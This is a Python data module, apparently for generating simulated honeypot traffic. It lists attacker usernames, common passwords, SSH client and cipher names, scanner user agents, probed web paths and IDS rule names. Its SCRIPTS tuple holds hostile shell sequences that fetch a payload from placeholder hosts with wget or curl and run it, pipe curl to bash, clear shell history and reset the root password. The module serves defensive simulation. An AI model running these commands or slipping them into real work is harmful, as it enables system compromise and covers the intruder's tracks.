"""The words attackers use: names, passwords, commands, clients, paths. Lists only, most used first.

Which attacker uses which of them is `population`'s business; how a honeypot words what it saw
is that of `honeypots` and `cowrie`.
"""

from __future__ import annotations

USERNAMES = (
    "root", "admin", "user", "test", "ubuntu", "oracle", "postgres", "git", "pi", "guest",
    "ftpuser", "support", "mysql", "hadoop", "deploy", "jenkins", "nagios", "www-data", "minecraft",
    "service", "backup", "dev", "tomcat", "ansible", "es", "server", "operator", "student",
    "administrator", "default", "ubnt", "vagrant", "steam", "centos", "zabbix",
)  # fmt: skip

PASSWORDS = (
    "123456", "password", "admin", "root", "12345678", "1234", "12345", "123456789", "qwerty",
    "test", "111111", "P@ssw0rd", "1q2w3e4r", "admin123", "root123", "toor", "abc123", "000000",
    "1qaz2wsx", "passw0rd", "changeme", "letmein", "user", "ubuntu", "oracle", "postgres", "guest",
    "support", "default", "raspberry", "welcome", "qwe123", "123qwe", "123123", "654321", "master",
    "administrator", "Passw0rd!", "Admin@123", "qwerty123", "asdfgh", "zxcvbn", "q1w2e3r4", "pass",
    "server", "football", "monkey", "dragon", "iloveyou", "123", "pa\u00dfwort", "\u5bc6\u7801",
    "", "!@#$%^", 'a"b\\c', "ubnt", "vagrant", "minecraft", "dietpi", "system", "linux",
)  # fmt: skip

# What a visitor types once inside. A script is one campaign's; {url} and {file} are its loot.
SCRIPTS = (
    ("uname -a",),
    ("uname -s -v -n -r -m",),
    ("cat /proc/cpuinfo | grep name | wc -l", "free -m", "uname -a", "whoami"),
    (
        "cd /tmp || cd /var/run || cd /mnt; wget {url} -O {file}; chmod 777 {file}; ./{file}",
        "rm -rf {file}",
    ),
    ("enable", "system", "shell", "sh", "cat /proc/mounts", "/bin/busybox wget {url}"),
    (
        "cat /proc/cpuinfo",
        "lscpu | grep Model",
        "cat /proc/cpuinfo | grep model | grep name | wc -l",
        "ls -lh $(which ls)",
        "which ls",
        "crontab -l",
        "w",
        "uname -m",
        "top",
        "df -h | head -n 2 | awk 'FNR == 2 {{print $2;}}'",
    ),
    ("curl -s {url} | bash", "history -c"),
    ('echo "root:{password}"|chpasswd|bash', "uname -a", "nproc"),
    ("/ip cloud print", "ifconfig", "ps | grep '[Mm]iner'", "echo Hi | cat -n"),
    ("nohup curl -fsSL {url} -o /dev/shm/{file} && sh /dev/shm/{file} >/dev/null 2>&1 &",),
)

# Commands the honeypot's shell does not have: it reports each of them twice.
UNKNOWN_COMMANDS = frozenset({"enable", "system", "shell", "/ip cloud print", "nproc"})

LOOT_HOSTS = ("203.0.113.{octet}", "203.0.113.{octet}:8080", "malware.example", "dl.example.net")
LOOT_FILES = ("bins.sh", "x86_64", "arm7", "mips", "update.sh", "xm.tar.gz", "i.sh", "sshd")

SSH_CLIENTS = (
    "SSH-2.0-libssh-0.6.3",
    "SSH-2.0-Go",
    "SSH-2.0-libssh2_1.4.3",
    "SSH-2.0-PUTTY",
    "SSH-2.0-paramiko_2.4.2",
    "SSH-2.0-OpenSSH_7.4p1 Debian-10",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-JSCH-0.1.51",
)
KEX_ALGORITHMS = (
    "curve25519-sha256",
    "ecdh-sha2-nistp256",
    "ecdh-sha2-nistp384",
    "diffie-hellman-group-exchange-sha256",
    "diffie-hellman-group14-sha1",
    "diffie-hellman-group1-sha1",
)
HOST_KEY_ALGORITHMS = ("ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "ssh-rsa", "ssh-dss")
CIPHERS = ("aes256-ctr", "aes192-ctr", "aes128-ctr", "aes256-cbc", "aes128-cbc", "3des-cbc")
MACS = ("hmac-sha2-512", "hmac-sha2-256", "hmac-sha1", "hmac-md5")

USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.27.1",
    "curl/7.68.0",
    "Go-http-client/1.1",
    "masscan/1.3",
    "-",
)
WEB_PATHS = (
    "/", "/.env", "/phpmyadmin/index.php", "/boaform/admin/formLogin", "/HNAP1", "/cgi-bin/luci",
    "/manager/html", "/.git/config", "/actuator/health", "/shell?cd+/tmp", "/robots.txt",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system",
)  # fmt: skip
WORDPRESS_PATHS = (
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-admin/",
    "/wp-json/wp/v2/users",
    "/?author=1",
    "/wp-content/plugins/revslider/temp/update_extract/",
)
IDS_RULES = (
    ("ET SCAN Potential SSH Scan", 2001219, 2),
    ("ET SCAN Suspicious inbound to MSSQL port 1433", 2010935, 2),
    ("ET SCAN Behavioral Unusually fast Terminal Server Traffic Inbound", 2001972, 2),
    ("ET POLICY Suspicious inbound to mySQL port 3306", 2010937, 2),
    ("GPL SNMP public access udp", 2101411, 2),
    ("ET DROP Spamhaus DROP Listed Traffic Inbound group 3", 2400002, 2),
    ("ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", 2034647, 1),
)
OPERATING_SYSTEMS = (
    "Linux 2.2.x-3.x",
    "Linux 3.11 and newer",
    "Windows 7 or 8",
    "Windows NT kernel",
    "???",
)
